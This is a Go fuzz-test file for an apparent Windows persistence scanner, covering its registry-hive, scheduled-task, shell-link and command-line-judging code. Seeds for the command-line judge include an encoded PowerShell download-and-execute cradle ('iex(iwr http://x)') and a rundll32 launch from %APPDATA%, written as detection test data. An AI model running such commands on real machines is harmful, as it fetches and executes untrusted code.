package windows

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

// addHiveSeeds adds a few small real hives as seeds where they are present.
func addHiveSeeds(f *testing.F) {
	root := filepath.Join(repoRoot(f), "..", "shared", "external", "hives")
	for _, rel := range []string{"python-registry/UNICODE_TESTS", "python-registry/REORGANIZED_VALUES_TESTS", "python-registry/issue22.hive"} {
		if b, err := os.ReadFile(filepath.Join(root, rel)); err == nil {
			f.Add(b)
		}
	}
	if b, err := os.ReadFile(filepath.Join(root, "artemis/NTUSER_Bad.DAT")); err == nil && len(b) > 0x3000 {
		f.Add(b[:0x3000])
	}
	f.Add([]byte("regf"))
}

// FuzzHive drives the registry reading path the checks use (regparser under
// recover, our index and value walking) over arbitrary bytes: it must end
// and never panic. Run with: go test -fuzz FuzzHive ./scanner/windows
func FuzzHive(f *testing.F) {
	addHiveSeeds(f)
	// The walk is bounded (64 levels, 10,000 keys) and gives the same
	// listing when the hive is parsed again: the checks' findings must not
	// depend on the run.
	listing := func(data []byte) string {
		h, err := parseHive(data)
		if err != nil {
			return "error: " + err.Error()
		}
		var sb strings.Builder
		fmt.Fprintf(&sb, "dirty %v\n", h.dirty())
		n := 0
		err = walkHive(h, 64, func(p string, k *regKey) error {
			n++
			fmt.Fprintf(&sb, "%s %v", p, k.LastWrite())
			if vals, _ := k.Values(); len(vals) > 0 {
				fmt.Fprintf(&sb, " %d values, first %q", len(vals), vals[0].Text())
			}
			sb.WriteByte('\n')
			if n > 10000 {
				return errHiveBudget
			}
			return nil
		})
		fmt.Fprintf(&sb, "walk: %v\n", err != nil)
		for _, p := range []string{`Software\Microsoft\Windows\CurrentVersion\Run`, `Select`, `ControlSet001\Services`} {
			if k, _ := h.open(p); k != nil {
				v, _, err := k.Value("Current")
				fmt.Fprintf(&sb, "%s: %v %v\n", p, v, err != nil)
			}
		}
		cs, err := currentControlSet(h)
		fmt.Fprintf(&sb, "control set %v %v\n", cs, err != nil)
		return sb.String()
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if a, b := listing(data), listing(data); a != b {
			t.Fatalf("two parses of the same hive differ:\n%s\n---\n%s", a, b)
		}
	})
}

// FuzzParseTask: the task XML parser over arbitrary bytes.
func FuzzParseTask(f *testing.F) {
	for _, enc := range []string{"utf-16le-bom", "utf-8"} {
		f.Add(encodeTask(f, enc))
	}
	f.Add([]byte(`<Task><Actions><Exec><Command>a</Command></Exec></Actions></Task>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		task, err := ParseTask(data)
		again, err2 := ParseTask(data)
		if !reflect.DeepEqual(task, again) || (err == nil) != (err2 == nil) {
			t.Fatalf("two parses differ: %+v, %+v", task, again)
		}
		if err != nil {
			return
		}
		for _, e := range task.Execs {
			if cl := e.CommandLine(); !utf8.ValidString(cl) {
				t.Fatalf("command line %q is not UTF-8", cl)
			}
		}
		_, _ = task.RunAs()
	})
}

// FuzzParseLnk: the shell-link reader over arbitrary bytes.
func FuzzParseLnk(f *testing.F) {
	f.Add(lnkFile(`C:\a\b.exe`, "-x", `C:\a`))
	f.Fuzz(func(t *testing.T, data []byte) {
		a, errA := parseLnk(data)
		b, errB := parseLnk(data)
		if !reflect.DeepEqual(a, b) || (errA == nil) != (errB == nil) {
			t.Fatalf("two parses differ: %+v, %+v", a, b)
		}
	})
}

// FuzzJudge: command-line judging (splitting, env expansion, decoding,
// regexps) over arbitrary text.
func FuzzJudge(f *testing.F) {
	r := mustRules(f)
	f.Add(`powershell -enc ` + psEnc("iex(iwr http://x)"))
	f.Add(`cmd /c "a & b | c" && "C:\Program Files\x.exe"`)
	f.Add(`rundll32 %APPDATA%\x.dll,Start`)
	f.Fuzz(func(t *testing.T, line string) {
		for _, h := range r.judge(line, "u", logonPlace) {
			if h.Rule == "" || h.Title == "" {
				t.Fatalf("hit without rule or title: %+v", h)
			}
		}
	})
}
